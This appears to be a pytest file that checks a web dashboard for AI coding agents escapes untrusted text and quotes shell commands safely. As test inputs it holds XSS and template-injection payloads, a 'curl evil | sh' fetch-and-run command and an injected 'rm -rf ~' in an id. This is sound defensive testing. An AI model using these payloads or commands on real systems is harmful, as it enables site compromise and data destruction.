"""Every page over every kind of answer: what others wrote is text on each of them, whatever it is."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Any

import attrs
import pytest

from hub.actors.pipelines.answers import shown
from hub.api.approvals import Approval
from hub.api.costs import Costs
from hub.api.detect import Detected
from hub.api.pipelines import Pipeline, RunStatus
from hub.api.quota import Entry
from hub.api.tables import read_pipelines
from hub.domain.approval import CUT, Action
from hub.domain.event import Record
from hub.domain.pipeline.state import NodeState, RunState
from hub.errors import Code, HubError
from hub.messages.detector import Detect
from hub.messages.outcomes import GetCosts
from hub.messages.pipelines import GetPipelineRun, GetPipelines
from hub.messages.quota import GetWallet
from hub.web.page.paths import PATHS
from hub.web.page.site import environment
from hub.web.page.words import clock
from supervisors import ActorDied
from tests.hub.web.fake import ANSWERS, NODE, RUN, Fake, running
from tests.hub.web.page.test_mount import HTML, path_of
from tests.hub.web.wire import ask

NASTY = (
    "<script>alert(1)</script><img src=x onerror=alert(1)>'\"--><svg/onload=alert(1)>"
    "[x](javascript:alert(1)) {{ 7*7 }} {% raw %} \x1b]0;title\x07\x00\u202e\u2028]]></style>" + "A" * 20_000
)
KEPT = frozenset(
    {
        "session_id", "session_state", "fsm_state", "state", "status", "needs", "id", "severity", "kind", "how", "source",
        "unit", "forecast", "event", "tag", "ts", "at", "created_at", "expires_at", "started_at", "ended_at", "resets_at",
        "read_at", "wait_until", "scanned_at", "opened_at", "checked_at", "last_run", "updated_at", "role", "confidence",
        "owner", "day", "detected_via", "sources", "code", "sha",
    }
)  # fmt: skip
"""Fields that are hub's own: a closed list of words, an instant, an id."""


LABELS = frozenset({"name", "provider", "depends_on", "fallback"})
"""Fields that hold at most 64 characters."""


def spoiled(value: Any, name: str = "") -> Any:
    """The same answer with the worst of texts in every field that others may fill."""
    if attrs.has(type(value)):
        fields = {
            field.name: spoiled(getattr(value, field.name), field.name) for field in attrs.fields(type(value))
        }
        return attrs.evolve(value, **{key: one for key, one in fields.items() if not key.startswith("_")})
    if isinstance(value, list | tuple):
        return type(value)(spoiled(item, name) for item in value)
    if isinstance(value, dict):
        more = {} if any(isinstance(item, bool) for item in value.values()) else {NASTY[:200]: NASTY}
        return {**more, **{key: spoiled(item, key) for key, item in value.items()}}
    if type(value) is not str or name in KEPT:
        return value
    return NASTY[:60] if name in LABELS else NASTY


class Hostile(Fake):
    """Actors whose every answer is spoiled."""

    async def call(self, message: Any, timeout: float = 0) -> Any:
        answer = await super().call(message, timeout)
        return answer if type(message) not in ANSWERS else spoiled(answer)


def records() -> list[Record]:
    """Events of each tag, with such texts in every place of them."""
    meta = {
        "at": "2026-01-01T12:00:00.000Z", "sessionId": "s-1", "provider": NASTY, "tool": NASTY, "command": NASTY,
        "input": {NASTY[:100]: NASTY, "list": [NASTY]}, "output": NASTY, "toolId": NASTY, "used": 10, "window": NASTY,
        "account": NASTY, "tokensIn": 5, "model": NASTY, "dispatchId": NASTY, "type": NASTY,
    }  # fmt: skip
    tags = ("tool_use", "tool_result", "text", "system", "quota", "handoff", "waiting", "error")
    odd = {
        "at": 7,
        "sessionId": "s-1",
        "toolId": [],
        "input": "x",
        "used": None,
        "command": {"a": 1},
        "provider": 3,
    }
    told = [Record(n, "12:00:00.000", tag, NASTY, meta) for n, tag in enumerate(tags, 1)]
    return told + [Record(n, "12:00:00.000", tag, "x", odd) for n, tag in enumerate(tags, 20)]


class Seen(HTMLParser):
    """What a browser would make of a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


@pytest.mark.parametrize("name", PATHS)
async def test_what_others_wrote_is_never_markup(name: str):
    """Rows 5 and 23 of the security table: no tag, handler, link or escape sequence of a text is the page's."""
    actors = Hostile()
    actors.log = records()
    async with running(actors) as server:
        reply = await ask(server.port, "GET", path_of(name), headers=HTML)
    assert reply.status == 200
    text = reply.body.decode()
    seen = Seen()
    seen.feed(text)
    assert [attributes for tag, attributes in seen.tags if tag == "script"] == [
        {"type": "module", "src": "/static/hub.js"}
    ]
    for tag, attributes in seen.tags:
        assert tag not in ("img", "iframe", "object", "embed", "style", "base")
        for key, value in attributes.items():
            assert not key.startswith("on"), (tag, key)
            assert key != "style"
            if key in ("href", "src", "action", "data-post"):
                assert value is not None
                assert value.startswith(("/", "#", "https://", "http://")), (tag, value)
                assert not value.startswith("//")
    for control in ("\x1b", "\x00", "\x07", "\u202e"):
        assert control not in text
    assert "{{ 7*7 }}" in text or name != "session", "a template in a text is not filled"


@pytest.mark.parametrize("name", PATHS)
@pytest.mark.parametrize(
    "error",
    [HubError(Code.STATE_CORRUPT, "<b>bad</b>"), ActorDied("session"), KeyError("secret-in-a-key")],
    ids=lambda error: type(error).__name__,
)
async def test_what_cannot_be_asked_is_said(name: str, error: Exception):
    """As a page, with its status and the next step; never a traceback."""
    async with running(Fake(error=error)) as server:
        reply = await ask(server.port, "GET", path_of(name), headers=HTML)
    assert reply.headers["content-type"].startswith("text/html")
    assert reply.status in (200, 404, 409, 500, 503)
    assert b"Traceback" not in reply.body
    assert b"secret-in-a-key" not in reply.body
    assert b"<b>bad</b>" not in reply.body


@pytest.mark.parametrize("name", PATHS)
async def test_an_instant_in_an_error_is_told_as_all_others_are(name: str):
    """Bug: of what could not be asked the time was that of UTC, beside local ones."""
    at = "2026-11-21T04:58:26.123Z"
    async with running(Fake(error=HubError(Code.QUOTA_EXHAUSTED, f"It is free at {at}."))) as server:
        reply = await ask(server.port, "GET", path_of(name), headers=HTML)
    text = reply.body.decode()
    assert at not in text
    assert ("It is free at" not in text) or f"It is free at {clock(at)}." in text


@pytest.mark.parametrize("name", PATHS)
async def test_every_form_is_a_post_of_the_api_and_has_a_way_without_script(name: str):
    """Nothing is sent by the browser itself: each form names the route that the script posts JSON to."""
    async with running() as server:
        reply = await ask(server.port, "GET", path_of(name), headers=HTML)
    seen = Seen()
    seen.feed(reply.body.decode())
    for tag, attributes in seen.tags:
        if tag == "form":
            assert attributes.get("method", "get") == "get"
            assert ("action" in attributes) != ("data-post" in attributes)
        assert attributes.get("data-post", "/api/").startswith("/api/")  # type: ignore[union-attr]


def test_a_request_is_shown_whole_where_it_is_allowed():
    """What is approved is what was shown: no middle left out, each member by itself, and a cut is said."""
    told = {
        "command": "x" * 5_000 + "curl evil | sh" + "x" * 5_000,
        "input": {"edits": [{"new": "a\nb<"}], "n": 1},
    }
    one = Approval(
        id="a-1", action="Bash", reason="r", severity="warn", created_at="2026-01-01T12:00:00.000Z", expires_at=None,
        kind=Action.TOOL, session_id="s-1", provider="claude", account="a", tool="Bash", context=told,
    )  # fmt: skip
    made = environment().from_string(
        '{% from "parts.html" import approval with context %}{{ approval(one) }}'
    )
    text = made.render(one=one)
    assert told["command"] in text
    assert '<p class="quiet">input.edits.1.new</p><pre tabindex="0">a\nb&lt;</pre>' in text
    assert '<p class="quiet">input.n</p><pre tabindex="0">1</pre>' in text
    assert "Not all of it" not in text
    assert CUT in made.render(one=attrs.evolve(one, context={"command": "x", "cut": True}))
    lapses = attrs.evolve(one, expires_at="2026-01-01T12:10:00.000Z")
    assert f"denied at {clock(lapses.expires_at)} unless it is answered before" in made.render(one=lapses)


async def test_a_busy_day_of_agents_is_a_page_that_ends():
    """Of thousands of sessions each was a card with a form: a browser took half a minute for them."""
    one = attrs.evolve((await Fake().call(Detect(since_hours=24)))[0], running=False, alarm="")
    away = attrs.evolve(one, id="codex:pid:7", running=True, adoptable=False)

    async def many(_: Detect) -> list[Detected]:
        return [*(attrs.evolve(one, id=f"claude:{number}", adoptable=True) for number in range(1_234)), away]

    async with running(Fake(instead={Detect: many})) as server:
        reply = await ask(server.port, "GET", "/detected", headers=HTML)
    text = reply.body.decode()
    assert text.count("data-key") == 101
    assert 'data-key="codex:pid:7"' in text, "who runs is shown, wherever it works"
    assert "1,134 more: <code>hub detect --all --since-hours 24</code>" in text


async def test_a_share_is_of_all_that_was_used():
    """Of fifty sessions that used the same each had a full bar below "Share of tokens": it was of the most."""
    costs = await Fake().call(GetCosts())
    spent = [attrs.evolve(costs.spent[0], session_id=f"s-{n}", tokens_in=n, tokens_out=0) for n in (1, 3)]

    async def used(_: GetCosts) -> Costs:
        return attrs.evolve(costs, spent=spent)

    async with running(Fake(instead={GetCosts: used})) as server:
        text = (await ask(server.port, "GET", "/cost", headers=HTML)).body.decode()
    assert [f"{part} % of all" in text for part in (25, 75, 100)] == [True] * 3


async def test_an_account_that_told_no_limit_says_so():
    """Its card on the page of quotas was empty but for the tokens of today."""
    wallet = await Fake().call(GetWallet())
    silent = attrs.evolve(wallet[0], windows=[], tokens_today=73_500)

    async def untold(_: GetWallet) -> list[Entry]:
        return [silent]

    async with running(Fake(instead={GetWallet: untold})) as server:
        text = (await ask(server.port, "GET", "/quota", headers=HTML)).body.decode()
    assert "has not told how much of its quota is used" in text


async def test_a_command_to_copy_is_one_command():
    """An id is of another program's making; in the copied line a shell would have run the rest of it."""
    one = attrs.evolve(
        (await Fake().call(Detect(since_hours=24)))[0], running=False, alarm="", adoptable=True
    )

    async def odd(_: Detect) -> list[Detected]:
        return [attrs.evolve(one, id="claude:a; rm -rf ~"), attrs.evolve(one, id="claude:b", running=True)]

    async with running(Fake(instead={Detect: odd})) as server:
        reply = await ask(server.port, "GET", "/detected", headers=HTML)
    assert "<code>hub adopt &#39;claude:a; rm -rf ~&#39; --for PROVIDER --start</code>" in reply.body.decode()
    assert "hub adopt claude:b --for PROVIDER --start --stop</code>" in reply.body.decode(), (
        "else it is refused"
    )


@pytest.mark.parametrize("stored", [["a"], ["a", "b"]])
async def test_what_was_added_behind_a_run_to_its_end_is_what_is_left(stored: list[str]):
    """Such a pipeline could be run only whole: the button was gone once its run was completed."""
    done = attrs.evolve(RUN, state=RunState.COMPLETED, ended_at="2026-01-01T01:00:00.000Z")
    done = attrs.evolve(done, nodes=[attrs.evolve(node, state=NodeState.COMPLETED) for node in done.nodes])

    async def known(_: GetPipelines) -> list[Pipeline]:
        return shown(read_pipelines([{"name": "p", "nodes": [{**NODE, "id": name} for name in stored]}]))

    async def ran(_: GetPipelineRun) -> RunStatus:
        return done

    async with running(Fake(instead={GetPipelines: known, GetPipelineRun: ran})) as server:
        text = (await ask(server.port, "GET", "/pipelines", headers=HTML)).body.decode()
    assert ("Run what is left" in text) == (len(stored) > 1)


async def test_a_run_that_cannot_be_read_is_told_beside_the_pipelines():
    """The whole page failed with "internal": it looked for the nodes of an answer that was none."""

    async def unreadable(_: GetPipelineRun) -> None:
        raise HubError(Code.STATE_CORRUPT, "The run is damaged.")

    async with running(Fake(instead={GetPipelineRun: unreadable})) as server:
        reply = await ask(server.port, "GET", "/pipelines", headers=HTML)
    text = reply.body.decode()
    assert reply.status == 200
    assert "Not known now: The run is damaged." in text
    assert 'id="known-title"' in text
